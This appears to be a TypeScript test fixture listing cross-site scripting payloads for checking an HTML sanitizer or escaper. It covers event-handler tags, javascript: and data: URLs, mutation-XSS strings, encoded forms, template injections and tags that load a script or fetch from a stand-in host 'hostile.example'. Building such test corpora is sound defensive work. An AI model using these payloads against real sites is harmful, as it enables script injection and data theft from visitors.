// Texts that would run code if a page contained them unescaped. Each sets the global `struck` or sends a request to another
// host, and the tests check for both.

const ACT = 'top.struck=1';
const OTHER_HOST = 'hostile.example';

/** Elements that run code by themselves. */
const ELEMENTS = [
  `<img src=x onerror=${ACT}>`,
  `<IMG/SRC=x/OnErRoR=${ACT}>`,
  `<svg onload=${ACT}>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s>`,
  `<svg><script>${ACT}</script></svg>`,
  `<video><source onerror=${ACT}></video>`,
  `<audio src=x onerror=${ACT}>`,
  `<details open ontoggle=${ACT}>`,
  `<input autofocus onfocus=${ACT}>`,
  `<select autofocus onfocus=${ACT}>`,
  `<iframe srcdoc="<script>${ACT}</script>">`,
  `<iframe src="javascript:${ACT}">`,
  `<object data="javascript:${ACT}">`,
  `<embed src="javascript:${ACT}">`,
  `<link rel=stylesheet href=x onerror=${ACT}>`,
  `<script>${ACT}</script>`,
  `<script src=//${OTHER_HOST}/a.js></script>`,
  `<p style="animation:a" onanimationstart=${ACT}>`,
];

/** Texts that end the context in which a page may contain the text. */
const CONTEXT_ENDS = [
  ...['', '">', "'>", '`>', '-->', ']]>'],
  ...['title', 'textarea', 'script', 'style', 'noscript'].map((name) => `</${name}>`),
];

/** Attributes that break out of the attribute of an existing element. */
const ATTRIBUTES = ['"', "'", '`', '" ', '\\"', '&quot;', '" x=\''].map(
  (quote) => `${quote} autofocus onfocus=${ACT} onmouseover=${ACT} onload=${ACT} x=${quote}`,
);

const ADDRESSES = [
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  ` javascript:${ACT}`,
  `java\tscript:${ACT}`,
  `java\nscript:${ACT}`,
  `\u0001javascript:${ACT}`,
  `javascript&colon;${ACT}`,
  `&#106;avascript:${ACT}`,
  `javascript:/*--></title></style></textarea></script>*/${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3Auc3RydWNrPTE8L3NjcmlwdD4=`,
  `vbscript:${ACT}`,
  `//${OTHER_HOST}/x`,
  `https:${OTHER_HOST}/x`,
];

const LINKS = ADDRESSES.flatMap((address) => [
  `[lien](${address})`,
  `![image](${address})`,
  `<a href="${address}" autofocus>lien</a>`,
]);

/** Malformed HTML that a parser repairs into an element that runs code. */
const REPAIRED = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${ACT}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ACT}>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<scr\0ipt>${ACT}</scr\0ipt>`,
  `<<script>${ACT}//<</script>`,
  `<!--<img src="--><img src=x onerror=${ACT}//">`,
  `<![CDATA[<img src=x onerror=${ACT}>]]>`,
  `<xmp><p title="</xmp><svg/onload=${ACT}>">`,
  `<select><noscript></select><script>${ACT}</script>`,
  `<table><td background=//${OTHER_HOST}/x><img src=x onerror=${ACT}>`,
];

const ENCODED = [
  `&lt;img src=x onerror=${ACT}&gt;`,
  `&#60;img src=x onerror=${ACT}&#62;`,
  `%3Cimg src=x onerror=${ACT}%3E`,
  `\\u003cimg src=x onerror=${ACT}\\u003e`,
  `\\x3cimg src=x onerror=${ACT}\\x3e`,
  `+ADw-script+AD4-${ACT}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${ACT}\uff1c/script\uff1e`,
  `\u2028<script>${ACT}</script>`,
  `\ufeff<script>${ACT}</script>`,
  `\u202e<script>${ACT}</script>`,
];

const CODE_TEXTS = [
  `";${ACT};//`,
  `';${ACT};//`,
  `\`;${ACT};//`,
  `\${${ACT}}`,
  `{{constructor.constructor('${ACT}')()}}`,
  `<%= ${ACT} %>`,
  `#{${ACT}}`,
  `</script><script>${ACT}//`,
  `<!--<script>`,
  `"}]}</script><svg onload=${ACT}>`,
];

const REQUESTS = [
  `<base href=//${OTHER_HOST}/>`,
  `<meta http-equiv=refresh content="0;url=https://${OTHER_HOST}/">`,
  `<style>*{background:url(//${OTHER_HOST}/x)}</style>`,
  `<p style="background:url(//${OTHER_HOST}/x)">x`,
  `<img src=//${OTHER_HOST}/x>`,
  `<link rel=prefetch href=//${OTHER_HOST}/x>`,
  `<form action=//${OTHER_HOST}/x><input name=a autofocus>`,
  `![image](https://${OTHER_HOST}/x.png)`,
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...CONTEXT_ENDS.flatMap((end) => ELEMENTS.map((element) => end + element)),
  ...ATTRIBUTES,
  ...LINKS,
  ...REPAIRED,
  ...ENCODED,
  ...CODE_TEXTS,
  ...REQUESTS,
];

/** Valid addresses that would be code in an attribute or a template. */
export const HOSTILE_EMAILS: readonly string[] = [
  "a'autofocus/onfocus='top.struck=1'",
  `{{${ACT}}}`,
  `\${${ACT}}`,
  '=1+1',
  '`onload=top.struck=1`',
].map((local) => `${local}@tarot.example`);
